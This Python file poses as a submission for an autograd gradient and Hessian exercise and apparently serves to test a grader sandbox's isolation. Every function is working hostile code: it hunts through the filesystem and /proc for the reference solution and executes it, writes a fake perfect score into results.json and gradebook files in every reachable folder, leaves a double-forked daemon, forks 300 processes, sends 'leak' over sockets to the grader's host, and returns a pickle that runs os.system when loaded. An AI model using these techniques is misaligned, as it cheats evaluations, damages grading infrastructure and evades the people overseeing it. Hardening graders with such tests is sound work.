"""Hostile: hunts for the reference, forges results, leaves daemons, forks, phones home, returns a pickle bomb."""
import torch
from torch.autograd import grad


def first_order_grads(x, y):
    """Looks for the reference solution everywhere and delegates to it if found."""
    import importlib.util, os, sys
    roots = ["/", os.getcwd(), *sys.path, "/proc/%d/cwd" % os.getppid(), "/proc/1/cwd", "/proc/1/root"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots.append(f"/proc/{pid}/cwd")
    for root in roots:
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) > 8 or folder.startswith(("/proc/sys", "/sys", "/dev")):
                dirs.clear()
                continue
            if "second_order.py" in files and "reference" in folder:
                spec = importlib.util.spec_from_file_location("stolen", os.path.join(folder, "second_order.py"))
                stolen = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(stolen)
                open(os.path.join(os.environ.get("GRADER_MARKER_DIR", "/tmp"), "found-reference"), "w").write(folder)
                return stolen.first_order_grads(x, y)
    raise RuntimeError("reference not found")


def second_partials(x, y, i):
    """Writes a perfect results.json and gradebook into every folder it can reach."""
    import json, os
    fake = json.dumps({"score": 100, "tests": []})
    for folder, dirs, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/dev")) or folder.count(os.sep) > 6:
            dirs.clear()
            continue
        for name, text in (("results.json", fake), ("gradebook.csv", "submission,score\nme,100\n"),
                           ("hacked-marker", "x")):
            try:
                with open(os.path.join(folder, name), "w") as stream:
                    stream.write(text)
            except OSError:
                pass
    return torch.ones_like(x), torch.ones_like(y)


def grads_without_zeroing(x, y, i):
    """Leaves a double-forked daemon behind that would write a marker later."""
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(3)
            for folder in ("/tmp", os.environ.get("GRADER_MARKER_DIR", "/tmp")):
                try:
                    open(os.path.join(folder, "daemon-survived"), "w").write("x")
                except OSError:
                    pass
            os._exit(0)
        os._exit(0)
    return torch.zeros_like(x), torch.zeros_like(y)


def hessian(f, x):
    """A bounded fork bomb: 300 children that each sleep."""
    import os, time
    children = 0
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
        except OSError:
            break
    return torch.zeros(len(x), len(x), dtype=x.dtype)


def hvp(f, x, v):
    """Opens a network connection to the grader's machine, then returns zeros."""
    import os, socket
    port = int(os.environ.get("GRADER_TEST_PORT", "1"))
    for host in ("127.0.0.1", "10.0.2.2"):
        try:
            socket.create_connection((host, port), timeout=1).sendall(b"leak")
        except OSError:
            pass
    return torch.zeros_like(x)


class Payload:
    """Whoever unpickles this runs code."""

    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/unpickled-marker",))


def gradient_penalty(f, x):
    return Payload()


